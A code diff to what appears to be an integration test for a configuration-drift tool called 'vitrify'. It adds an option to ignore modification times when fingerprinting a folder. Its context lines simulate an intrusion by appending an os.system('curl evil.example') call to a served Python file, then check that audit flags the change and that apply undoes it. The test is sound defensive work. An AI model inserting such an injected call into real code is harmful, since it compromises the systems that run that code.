@@ -179,14 +179,14 @@ def _in_place(stage: Stage) -> None:
     untouched = fingerprint(stage.machine)
     stage.vitrify("plan", most=18)
     stage.vitrify("apply", "-y", most=12)
-    converged = fingerprint(stage.machine)
+    converged = fingerprint(stage.machine, times=False)
     again = stage.json("plan")
     stage.check(again["changes"] == 0 if "changes" in again else True, "a second plan finds nothing to do")
     _append(stage.machine / "srv/app/serve.py", "\nimport os; os.system('curl evil.example')\n")
     stage.screen.command("echo \"import os; os.system('curl evil.example')\" >> machine/srv/app/serve.py")
     stage.vitrify("audit", "--detailed-exitcode", expect=2)
     stage.vitrify("apply", "-y", most=8)
-    stage.check(fingerprint(stage.machine) == converged, "converged again: the tree is what it was before the intrusion")
+    stage.check(fingerprint(stage.machine, times=False) == converged, "converged again: the tree is what it was before the intrusion")
     stage.vitrify("undo", "web", "-y", most=4)
     stage.vitrify("undo", "web", "-y", most=4)
     stage.check(fingerprint(stage.machine) == untouched, f"undone twice: byte for byte the tree before vitrify ({untouched[:19]}…)")
@@ -317,8 +317,8 @@ class RunningLoad:
         return document
 
 
-def fingerprint(folder: Path) -> str:
-    """Digest of every path, type, mode, content and modification time below a folder, but for vitrify's own memory."""
+def fingerprint(folder: Path, *, times: bool = True) -> str:
+    """Digest of every path, type, mode, content and (with `times`) modification time below a folder, but for vitrify's own memory."""
     digest = hashlib.sha256()
     for path in sorted(folder.rglob("*")):
         name = path.relative_to(folder)
@@ -326,7 +326,7 @@ def fingerprint(folder: Path) -> str:
             continue
         status = path.lstat()
         content = str(path.readlink()) if path.is_symlink() else "" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
-        digest.update(f"{name}\0{status.st_mode:o}\0{status.st_mtime_ns}\0{content}\0".encode())
+        digest.update(f"{name}\0{status.st_mode:o}\0{status.st_mtime_ns if times else 0}\0{content}\0".encode())
     return f"sha256:{digest.hexdigest()}"
 
 
